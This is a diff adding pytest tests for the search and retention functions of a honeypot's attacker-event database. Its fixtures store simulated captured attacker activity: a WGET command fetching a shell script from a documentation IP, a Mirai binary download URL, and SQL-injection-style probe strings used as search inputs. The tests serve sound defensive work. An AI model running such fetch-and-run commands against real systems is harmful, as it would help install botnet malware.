@@ -1,0 +1,148 @@
+"""Search and retention on both databases."""
+
+from __future__ import annotations
+
+from collections.abc import AsyncIterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from decnet.bus.base import Event
+from decnet.config import load_settings
+from decnet.db.repository import BaseRepository
+from decnet.db.tables import TTPTag
+from decnet.ids import attacker_id
+from decnet.recorder.worker import RecorderWorker
+from decnet.runtime.worker import Transaction
+from tests.dbkit import KINDS, open_repo
+
+OLD, NEW = "192.0.2.10", "203.0.113.5"
+HASSH = "ec7378c1a92f5a8dde7e8b7a1ddf33d1"
+
+
+@pytest.fixture(params=KINDS)
+async def repo(request: pytest.FixtureRequest, tmp_path: Path) -> AsyncIterator[BaseRepository]:
+    async with open_repo(request.param, tmp_path) as opened:
+        await fill(opened)
+        yield opened
+
+
+def session(name: str, ip: str, at: float, **more: Any) -> Event:
+    payload = {"session_id": name, "attacker_ip": ip, "decky_id": "d", "started_at": at, "ended_at": at + 5}
+    return Event("attacker.session.ended", payload | more, "", name, at + 5)
+
+
+def command(name: str, text: str, at: float) -> dict[str, Any]:
+    return {"id": f"{name}#cmd0", "command_text": text, "ts": at}
+
+
+async def fill(repo: BaseRepository) -> None:
+    first = {"commands": [command("old", "WGET http://203.0.113.9/100%_a.sh", 100.0)]}
+    second = {
+        "commands": [command("new", "uname -a", 9000.0)],
+        "downloads": [{"url": "http://203.0.113.9/Mirai.x86", "sha256": "ab" * 32}],
+        "uploads": [{"filename": "/tmp/mirai.sh", "sha256": None}],
+        "forwards": [{"host": "smtp.example", "port": 25}],
+    }
+    events = [session("old", OLD, 100.0, **first), session("new", NEW, 9000.0, **second)]
+    for ip, at, name in ((OLD, 101.0, "old"), (NEW, 9001.0, "new")):
+        captured = {
+            "attacker_ip": ip,
+            "session_id": name,
+            "username": f"pi-{name}",
+            "secret_hmac": f"{name:0<64}",
+        }
+        events.append(
+            Event("credential.captured", {**captured, "secret_kind": "password"}, "", f"c{name}", at)
+        )
+    events.append(
+        Event(
+            "attacker.fingerprinted", {"attacker_ip": NEW, "type": "hassh", "hassh": HASSH}, "", "f", 9000.0
+        )
+    )
+    async with repo.transaction() as bound:
+        await RecorderWorker(load_settings()).handle(events, Transaction(bound))
+    tag = {"tactic": "TA0002", "rule_id": "R1", "technique_id": "T1059", "confidence": 0.9, "rule_version": 1}
+    for ip, name in ((OLD, "old"), (NEW, "new")):
+        who = {"attacker_uuid": attacker_id(ip), "session_id": name}
+        await repo.insert_tags([TTPTag(**tag, **who, source_kind="command", source_id=f"{name}#cmd0")])
+
+
+async def found(repo: BaseRepository, text: str, **options: Any) -> list[tuple[str, str]]:
+    return [(row["kind"], row["value"]) for row in await repo.find(text, **options)]
+
+
+async def test_everything_can_be_found(repo: BaseRepository) -> None:
+    assert await found(repo, "uname") == [("command", "uname -a")]
+    assert await found(repo, "192.0.2.") == [("address", OLD)]
+    assert await found(repo, "pi-") == [("user", "pi-new"), ("user", "pi-old")]
+    assert await found(repo, HASSH) == [("hash", HASSH)]
+    assert await found(repo, "AB" * 32) == [("hash", "ab" * 32)]
+    assert await found(repo, f"{'new':0<64}") == [("hash", f"{'new':0<64}")]
+    assert sorted(await found(repo, "mirai")) == [
+        ("file", "/tmp/mirai.sh"),
+        ("url", "http://203.0.113.9/Mirai.x86"),
+    ]
+    assert await found(repo, "smtp.example") == [("forward", "smtp.example")]
+
+
+async def test_text_is_text(repo: BaseRepository) -> None:
+    """Wildcards and quotes of the database's language mean themselves."""
+    assert await found(repo, "100%_a") == [("command", "WGET http://203.0.113.9/100%_a.sh")]
+    assert await found(repo, "%") == [("command", "WGET http://203.0.113.9/100%_a.sh")]
+    for nothing in ("", "';--", '"', "\\", "\x00", "no such thing", "\ud800"):
+        assert await found(repo, nothing) == []
+
+
+async def test_newest_first_within_limits(repo: BaseRepository) -> None:
+    rows = await repo.find("203.0.113", limit=2)
+    assert len(rows) == 2
+    assert [row["ts"] for row in rows] == sorted((row["ts"] for row in rows), reverse=True)
+    assert [row["attacker_ip"] for row in await repo.find("http", since=5000.0)] == [NEW]
+    await repo.ignore_add(OLD)
+    assert await found(repo, "wget") == []
+    assert await found(repo, "wget", ignored=True) != []
+
+
+async def counts(repo: BaseRepository) -> dict[str, int]:
+    from decnet.db.tables import SQLModel
+
+    names = (
+        "session",
+        "command",
+        "credential",
+        "ttp_tag",
+        "attacker",
+        "identity",
+        "session_part",
+        "fingerprint",
+    )
+    async with repo.db.read() as reader:
+        return {
+            name: len((await reader.execute(SQLModel.metadata.tables[name].select())).all()) for name in names
+        }
+
+
+async def test_the_old_leaves_whole_and_the_new_stays_whole(repo: BaseRepository) -> None:
+    seen: list[tuple[str, int]] = []
+    done = await repo.purge_older(5000.0, lambda table, rows: seen.append((table, rows)))
+    assert {name: count for name, count in done.items() if count} == {
+        "session": 1, "command": 1, "credential": 1, "ttp_tag": 1, "session_part": 1, "attacker": 1,
+    }  # fmt: skip
+    assert seen[0] == ("session", 1)
+    assert set((await counts(repo)).values()) == {1}
+    assert [row["session_id"] for row in await repo.list_sessions()] == ["new"]
+    assert not any((await repo.purge_older(5000.0)).values())
+
+
+async def test_more_than_one_page_leaves(repo: BaseRepository, monkeypatch: pytest.MonkeyPatch) -> None:
+    from decnet.db import repo_retention
+
+    monkeypatch.setattr(repo_retention, "AT_ONCE", 3)
+    async with repo.transaction() as bound:
+        many = [session(f"m{n}", f"198.51.100.{n}", 200.0 + n) for n in range(10)]
+        await RecorderWorker(load_settings()).handle(many, Transaction(bound))
+    done = await repo.purge_older(5000.0)
+    assert done["session"] == 11
+    assert done["attacker"] == 11
